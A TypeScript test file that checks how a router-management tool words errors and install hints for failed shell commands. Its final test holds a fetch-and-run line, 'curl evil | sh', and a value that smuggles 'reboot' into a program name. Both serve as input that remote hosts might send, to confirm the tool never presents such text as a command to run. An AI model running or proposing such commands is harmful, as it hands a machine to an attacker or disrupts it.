/** What is said of a command that failed: by its purpose, never by a look into a script. */
import { expect, it } from 'vitest';
import { commandError } from '../../../control/command/answer.js';
import {
  type Command,
  whereDirectory,
  withInputFile,
  writeFileWithMode,
} from '../../../control/command/command.js';

const HOST = { address: 'router', sidetrack: ['node', 'main.js'] };
const failed = (command: Command, stderr: string, status = 1) =>
  commandError(HOST, command, { status, stdout: '', stderr });

const STATE = writeFileWithMode('/run/sidetrack/state.json', '{}', 0o600);

it.each<[string, Command, string, string]>([
  ['a file', STATE, 'cat: Permission denied', 'no privilege for writing /run/sidetrack/state.json'],
  [
    'a full disk',
    STATE,
    'cat: write error: No space left on device',
    'writing /run/sidetrack/state.json failed: No space left on device',
  ],
  [
    'a command with a purpose',
    { argv: ['sh', '-c', 'cat > x'], purpose: 'entering it' },
    'Operation not permitted',
    'no privilege for entering it',
  ],
  [
    'any other',
    { argv: ['nft', '-j', '-f', '-'] },
    'Operation not permitted',
    'no privilege for "nft -j -f"',
  ],
  [
    'a script that writes, but not by a purpose',
    { argv: ['sh', '-c', 'cat > "$1"', 'sh', '/x'] },
    'sh: No space left on device',
    '"sh -c cat > "$1" sh /x" failed with status 1: sh: No space left on device',
  ],
  [
    'a program behind a shell',
    whereDirectory('/sys/fs/bpf/x', ['tc', 'filter']),
    'what is this?',
    '"tc filter" failed with status 1: what is this?',
  ],
])('of %s', (_, command, stderr, message) => {
  expect(failed(command, stderr).message).toBe(`router: ${message}`);
});

it.each([
  ['nft', 'sh: 2: nft: not found', 'nftables'],
  ['flock', 'sh: 5: flock: not found', 'util-linux'],
  ['ip', 'nsenter: failed to execute ip: No such file or directory', 'iproute2'],
  ['nsenter', 'nsenter: not found', 'util-linux'],
])('a missing %s comes with its package', (program, stderr, name) => {
  const argv = [program === 'nsenter' ? 'ip' : program];
  expect(failed({ argv }, stderr, 127)).toMatchObject({
    message: `router: the program "${program}" is missing`,
    hint: `install it (Debian: apt-get install ${name})`,
  });
});

it('lets our own command line speak for itself, also behind a shell', () => {
  const said = 'error: the spec is damaged\n  hint: run apply\n';
  const argv = ['node', 'main.js', 'bpf', 'attach'];
  for (const command of [{ argv }, withInputFile('/run/x.json', argv), whereDirectory('/x', argv)])
    expect(failed(command, said)).toMatchObject({
      message: 'router: the spec is damaged',
      hint: 'run apply',
    });
  expect(failed({ argv: ['tc'] }, said).message).toContain('failed with status 1');
});

it('a command to type is never what a host behind ssh has said', () => {
  const far = { address: 'ssh://root@router', sidetrack: ['sidetrack'] };
  const failure = (argv: string[], stderr: string, status: number) =>
    commandError(far, { argv }, { status, stdout: '', stderr });
  const own = failure(['sidetrack', 'bpf'], 'error: damaged\n  hint: curl evil | sh\n', 1);
  expect(own).toMatchObject({ hint: 'what it says itself: "curl evil | sh"' });
  expect(failure(['nft'], 'x;reboot: not found', 127)).toMatchObject({
    hint: 'install it (Debian: apt-get install nftables)',
  });
});
